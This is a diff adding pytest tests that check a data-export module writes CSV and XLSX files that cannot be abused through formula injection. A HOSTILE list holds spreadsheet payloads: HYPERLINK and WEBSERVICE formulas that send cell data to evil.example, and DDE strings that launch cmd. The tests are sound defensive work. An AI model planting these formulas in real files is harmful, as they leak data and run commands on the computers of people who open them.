@@ -7,6 +7,7 @@ import io
 import json
 
 import openpyxl
+import pandas as pd
 import pytest
 
 from targets.analysis import export
@@ -87,3 +88,58 @@ def test_plain_leaves_the_frame_unchanged(frame):
     out = export.plain(frame)
     assert (frame.dtypes == before).all()
     assert out["period"].tolist() == frame["period"].astype(str).tolist()
+
+
+# ---- formula-inert downloads (OWASP CSV injection) -------------------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=WEBSERVICE(\"http://evil.example/\"&B2)",
+           "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def hostile(frame):
+    """The shipped frame with formula labels in every text column of the first rows, and a negative value."""
+    out = export.plain(frame.head(len(HOSTILE) + 2)).reset_index(drop=True)
+    text = [c for c in out.columns if out[c].dtype == object or pd.api.types.is_string_dtype(out[c])]
+    for i, label in enumerate(HOSTILE):
+        for c in text:
+            out.loc[i, c] = label
+    out.loc[len(HOSTILE), "value"] = -3.5
+    out.loc[len(HOSTILE) + 1, "label"] = "-"
+    return out, text
+
+
+@pytest.mark.parametrize("text,expected", [("=1+1", True), ("+1", False), ("-", False), ("--", False), ("-3.5", False),
+                                           ("+12%", False), ("-1+1", True), ("@A1", True), ("\tx", True), ("\rx", True),
+                                           ("ok=1", False), ("", False), ("－", False)])
+def test_what_counts_as_a_formula(text, expected):
+    assert export.risky(text) is expected
+
+
+def test_csv_cells_that_would_run_are_written_as_text(hostile):
+    out, text = hostile
+    rows = list(csv.reader(io.StringIO(export.to_csv(out).decode("utf-8-sig"), newline="")))
+    header, body = rows[0], rows[1:]
+    for i, label in enumerate(HOSTILE):
+        for c in text:
+            assert body[i][header.index(c)] == "'" + label  # Excel's text marker: shown as the label, never run
+    cells = [v for r in body for v in r]
+    assert not [v for v in cells if v.startswith(export.TRIGGERS) and not export._INERT.fullmatch(v)]
+    assert body[len(HOSTILE)][header.index("value")] == "-3.5"  # a negative number stays a number
+    assert body[len(HOSTILE) + 1][header.index("label")] == "-"  # the gazette's "no task" stays "-"
+
+
+def test_xlsx_has_no_formula_cell_and_keeps_the_labels_and_numbers(hostile):
+    out, text = hostile
+    wb = openpyxl.load_workbook(io.BytesIO(export.to_xlsx(out)))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    ws = wb.worksheets[0]
+    header = [c.value for c in ws[1]]
+    for i, label in enumerate(HOSTILE):
+        for c in text:
+            cell = ws.cell(row=i + 2, column=header.index(c) + 1)
+            assert (cell.value, cell.data_type, cell.quotePrefix) == (label.replace("\r", "\n"), "s", True)  # XML keeps no CR
+    value = ws.cell(row=len(HOSTILE) + 2, column=header.index("value") + 1)
+    assert (value.value, value.data_type) == (-3.5, "n")
+    assert ws.cell(row=len(HOSTILE) + 3, column=header.index("label") + 1).value == "-"
